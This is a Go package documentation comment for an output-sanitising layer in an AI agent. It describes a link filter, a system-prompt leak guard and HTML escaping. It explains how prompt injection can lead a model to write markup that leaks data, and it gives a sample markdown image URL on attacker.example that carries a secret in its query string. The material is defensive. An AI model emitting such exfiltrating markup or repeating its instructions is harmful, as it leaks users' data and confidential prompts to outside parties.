// Package output makes an agent's answer safe to show to a user.
//
// An answer is untrusted text: a prompt injection earlier in the
// conversation (or in a document the agent read) can make the model write
// markup that leaks data the moment it is rendered, or repeat the agent's
// own instructions. This package holds the checks that run on the way out:
//
//   - LinkFilter removes links, images and HTML tags that point outside an
//     allow-list of hosts. Images matter most: a rendered
//     ![](https://attacker.example/?q=SECRET) sends SECRET without a click.
//   - LeakGuard reports answers that repeat a long verbatim span of the
//     agent's instructions (its system prompt).
//   - EscapeHTML escapes an answer for a web chat that shows it as text.
//
// Findings use the shared detect.Finding type with Category detect.Output
// and byte offsets into the text that was inspected.
package output
